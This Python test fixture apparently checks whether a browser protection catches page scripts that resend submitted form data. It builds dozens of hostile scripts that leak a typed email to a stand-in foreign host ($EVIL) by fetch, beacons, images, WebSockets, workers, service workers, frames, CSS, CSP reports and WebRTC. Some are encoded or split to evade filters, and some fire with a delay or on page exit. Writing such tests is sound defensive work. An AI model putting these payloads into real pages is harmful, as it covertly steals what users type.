"""Ways to send after the press: the same again to the site, or what was typed to anybody else.

Here `$SELF` is the form's host, `$SUB` another of the site's and `$EVIL` a foreign one; `both()` is
all that was approved, as a form sends it, and `json()` the same as a JSON.
"""

from __future__ import annotations

from dataclasses import replace

from tests.hostile.way import REGISTER, Way, js, worker

_OLD = "const x = new XMLHttpRequest(); x.open('POST', {at}); x.send({what});"
_POST = "fetch({at}, {{method: 'POST', mode: 'no-cors', body: {what}}})"


def _told(way: Way) -> Way:
    """The same, told all that was approved."""
    return replace(way, script=way.script.replace("postMessage(v())", "postMessage(both())"))


def _again(name: str, what: str, at: str = "hit()") -> Way:
    return js(f"again: {name}", _POST.format(at=at, what=what))


def _foreign(name: str, what: str) -> Way:
    return js(f"foreign: {name}", _POST.format(at="away", what=what))


def _get(name: str, query: str, at: str = "away") -> Way:
    return js(f"foreign: fetch GET, {name}", f"fetch({at} + {query}, {{mode: 'no-cors'}})")


def _element(name: str, tag: str, attributes: str, *, into: str = "document.head") -> Way:
    return js(f"foreign: {name}", f"add('{tag}', {{{attributes}}}, {into})")


_TOLD = "const w = add('iframe', {src: '$EVIL$FRAME'}); await loaded(w); tell = w.contentWindow;"
_FRAME = "<script>onmessage = e => fetch('$HIT', {method: 'POST', body: e.data})</script>"
_NAMED = "<script>fetch('$HIT', {method: 'POST', body: name})</script>"
_SET = "g.method = 'post'; g.action = {at}; for (const [n, x] of new FormData(form)) {add}"
_INPUT = "add('input', {name: n, value: x}, g);"
_FORM = "const g = add('form'); " + _SET.replace("{add}", _INPUT)

SAME_AGAIN = (
    _again("another path", "both()"),
    _again("another path of its API", "both()", "hit('/graphql')"),
    _again("the very same path", "both()", "form.getAttribute('action')"),
    _again("with confirmed=1", "both() + '&confirmed=1'"),
    _again("JSON", "json()"),
    _again("multipart", "new FormData(form)"),
    _again("a JSON in a form", "new URLSearchParams({variables: json()})"),
    _again("base64", "btoa(json())"),
    _again("hexadecimal", "hex(json())"),
    _again("percent twice", "encodeURIComponent(both())"),
    _again("UTF-16", "utf16(json())"),
    _again("base64 of UTF-16", "btoa(String.fromCharCode(...utf16(json())))"),
    _again("backwards", "[...json()].reverse().join('')"),
    _again("a Blob", "new Blob([json()])"),
    _again("another host of the site", "both()", "'$SUB' + hit()"),
    js("again: fetch PUT", "fetch(hit(), {method: 'PUT', body: both()})"),
    js("again: GET with query", "fetch(hit('?' + both()))"),
    js("again: in a header", "fetch(hit(), {headers: {'x-form': json()}})"),
    js("again: XHR", _OLD.format(at="hit()", what="both()")),
    js("again: beacon", "navigator.sendBeacon(hit(), both())"),
    js("again: image", "new Image().src = hit('?' + both())"),
    js("again: EventSource", "new EventSource(hit('?' + both()))"),
    js("again: prefetch", "add('link', {rel: 'prefetch', href: hit('?' + both())}, document.head)"),
    js("again: WebSocket", "new WebSocket('wss://www.facebook.com$HIT?' + both())"),
    js("again: form", "form.action = hit(); form.target = ''; form.submit()"),
    js("again: form, requestSubmit", "form.action = hit(); form.requestSubmit()"),
    js("again: form by GET", "form.action = hit(); form.method = 'get'; form.submit()"),
    js("again: form to another host", _FORM.replace("{at}", "'$SUB' + hit()") + " g.submit()"),
    js("again: form in a new window", "form.action = hit(); form.target = '_blank'; form.submit()"),
    js("again: window.open", "open(hit('?' + both()), '_blank', 'noopener')"),
    js("again: navigation", "location = hit('?' + both())"),
    js("again: meta refresh", "refresh(hit('?' + both()))"),
    js(
        "again: the address as Referer",
        "history.replaceState(0, '', '?' + both()); fetch(hit(), {referrerPolicy: 'unsafe-url'})",
    ),
    js("again: reload after pushState", "history.pushState(0, '', hit('?' + both())); reload()"),
    Way("again: reload of the POST", trigger="reload", html="<script>form.target = ''</script>"),
    Way(
        "again: back and forth to the POST",
        trigger="back",
        html="<script>form.target = ''</script>",
    ),
    Way("again: redirect of the POST", html="<script>form.action = '/moved$HIT'</script>"),
    Way(
        "again: after minutes",
        "go = () => setTimeout(() => fetch(hit(), {method: 'POST', body: both()}), 180000);",
        trigger="later",
    ),
    Way(
        "again: as the page is left",
        "onpagehide = () => fetch(hit(), {method: 'POST', body: both(), keepalive: true})",
        trigger="leave",
    ),
    Way(
        "again: beacon as the tab is closed",
        "onpagehide = () => navigator.sendBeacon(hit(), both())",
        trigger="close",
    ),
    *(
        _told(
            worker(
                f"again: {kind}", f"new {kind}('$SCRIPT')", _POST.format(at="'$HIT'", what="data")
            )
        )
        for kind in ("Worker", "SharedWorker")
    ),
    js(
        "again: a blank frame's fetch",
        "add('iframe').contentWindow.fetch('$SELF$HIT', {method: 'POST', body: both()})",
    ),
    js("again: flood of 200", "for (let i = 0; i < 200; i++) fetch(hit('?' + i + both()))"),
)

TO_OTHERS = (
    _foreign("fetch POST", "both()"),
    _foreign("one value alone", "new FormData(form).get('why')"),
    _foreign("JSON", "json()"),
    _foreign("multipart", "new FormData(form)"),
    _foreign("base64", "btoa(v())"),
    _foreign("hexadecimal", "hex(v())"),
    _foreign("UTF-16", "utf16(v())"),
    _foreign("a Blob", "new Blob([v()])"),
    _get("query", "'?' + q()"),
    _get("percent twice", "'?' + encodeURIComponent(q())"),
    _get("base64", "'?' + btoa(v())"),
    _get("UTF-16", "'?' + [...utf16(v())].map(c => '%' + hex(String.fromCharCode(c))).join('')"),
    _get(
        "split over parameters", "'?' + v().match(/.{1,5}/g).map((c, i) => i + '=' + c).join('&')"
    ),
    _get("split over the path", "'/' + v().match(/.{1,5}/g).join('/')"),
    # One for which the browser does not ask the host before: it would say no value there.
    js("foreign: in a header", "fetch(away, {headers: {accept: btoa(v())}})"),
    js("foreign: XHR", _OLD.format(at="away", what="v()")),
    js("foreign: beacon", "navigator.sendBeacon(away, v())"),
    js("foreign: image", "new Image().src = away + '?' + q()"),
    js("foreign: EventSource", "new EventSource(away + '?' + q())"),
    js("foreign: WebSocket", "new WebSocket('$WS$HIT?' + q())"),
    js("foreign: form", _FORM.replace("{at}", "away") + " g.submit()"),
    js("foreign: form by GET", "form.method = 'get'; form.action = away; form.submit()"),
    js("foreign: navigation", "location = away + '?' + q()"),
    js("foreign: meta refresh", "refresh(away + '?' + q())"),
    js("foreign: window.open", "open(away + '?' + q())"),
    js("foreign: window.open, noopener", "open(away + '?' + q(), '_blank', 'noopener')"),
    js("foreign: fetchLater", "fetchLater(away, {method: 'POST', body: v(), activateAfter: 0})"),
    js("foreign: import()", "import(away + '?' + q())"),
    js(
        "foreign: a ping",
        "const a = add('a', {href: '#x', ping: away + '?' + q()}); a.textContent = 'x'; a.click()",
    ),
    _element("iframe", "iframe", "src: away + '?' + q()", into="document.body"),
    _element("object", "object", "data: away + '?' + q()", into="document.body"),
    _element("video", "video", "poster: away + '?' + q()", into="document.body"),
    _element("script", "script", "src: away + '?' + q()"),
    _element("stylesheet", "link", "rel: 'stylesheet', href: away + '?' + q()"),
    _element("link prefetch", "link", "rel: 'prefetch', href: away + '?' + q()"),
    _element("link preload", "link", "rel: 'preload', as: 'image', href: away + '?' + q()"),
    _element("manifest", "link", "rel: 'manifest', href: away + '?' + q()"),
    js("foreign: CSS url()", "form.style.background = `url(${away}?${q()})`"),
    js("foreign: CSS @import", "add('style').textContent = `@import url(${away}?${q()})`"),
    Way(
        "foreign: postMessage to a frame",
        f"let tell; setup = async () => {{ {_TOLD} }}; go = () => tell.postMessage(v(), '*');",
        frame=_FRAME,
    ),
    js("foreign: window.name", "name = v(); location = '$EVIL$FRAME'", frame=_NAMED),
    worker("foreign: worker", "new Worker('$SCRIPT')", _POST.format(at="'$EVIL$HIT'", what="data")),
    worker(
        "foreign: shared worker",
        "new SharedWorker('$SCRIPT')",
        _POST.format(at="'$EVIL$HIT'", what="data"),
    ),
    worker(
        "foreign: WebSocket in a worker",
        "new Worker('$SCRIPT')",
        "new WebSocket('$WS$HIT?' + encodeURIComponent(data))",
    ),
    js(
        "foreign: worker blob:",
        "new Worker(URL.createObjectURL(new Blob([`fetch('$EVIL$HIT', "
        "{method: 'POST', mode: 'no-cors', body: '${v()}'})`])))",
    ),
    Way(
        "foreign: service worker",
        f"go = async () => {{ const w = {REGISTER}; await pause(300); "
        "(w.active || w.waiting || w.installing).postMessage(v()); };",
        worker="onmessage = e => e.waitUntil("
        + _POST.format(at="'$EVIL$HIT'", what="e.data")
        + ");",
    ),
    Way(
        "foreign: CSP violation report",
        "go = () => add('img', {src: 'https://127.0.0.1:9/?' + q()})",
        headers={"content-security-policy": "img-src 'none'; report-uri $EVIL$HIT"},
    ),
    Way(
        "foreign: beacon as the page is left",
        "onpagehide = () => navigator.sendBeacon(away, v())",
        trigger="leave",
    ),
    Way(
        "foreign: after minutes",
        "go = () => setTimeout(() => navigator.sendBeacon(away, v()), 180000);",
        trigger="later",
    ),
    Way(
        "foreign: WebRTC",
        "go = async () => { const c = new RTCPeerConnection({iceServers: [{urls: "
        "'turn:127.0.0.1:$PORT', username: v(), credential: 'x'}]}); c.createDataChannel('x'); "
        "await c.setLocalDescription(); };",
        port="udp",
    ),
    js("foreign: WebTransport", "new WebTransport('https://127.0.0.1:$PORT/' + q())", port="udp"),
)

AFTER = (*SAME_AGAIN, *TO_OTHERS)

_PAGE = """<!doctype html><html lang=en><title>{name}</title>
<link rel=icon href="data:,">
<form id=f action="/send?form={key}" method=post target=into><input id=email name=email>
<input id=why name=why><button id=send>Send</button></form><iframe name=into></iframe>
<script>
const form = document.getElementById('f'), away = '$EVIL$HIT';
const v = () => form.elements.email.value, q = () => encodeURIComponent(v());
const both = () => `${{new URLSearchParams(new FormData(form))}}`;
const json = () => JSON.stringify(Object.fromEntries(new FormData(form)));
const hex = text => [...text].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
const utf16 = text => new Uint8Array([...text].flatMap(c => [c.charCodeAt(0), 0]));
const hit = (tail = '') => '$HIT' + tail;
const add = (tag, attributes = {{}}, into = document.body) => {{
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  into.append(made);
  return made;
}};
const refresh = to =>
  add('meta', {{'http-equiv': 'refresh', content: '0;url=' + to}}, document.head);
const reload = () => location.reload();
const loaded = e => new Promise(done => {{ e.onload = e.onerror = done; }});
const pause = ms => new Promise(done => setTimeout(done, ms));
</script>
{html}
<script>let setup = async () => {{}}, go = () => {{}};</script>
<script>{script}</script></html>"""


def page(way: Way) -> str:
    """The page of a way."""
    return _PAGE.format(name=way.name, key=way.key, html=way.html, script=way.script)
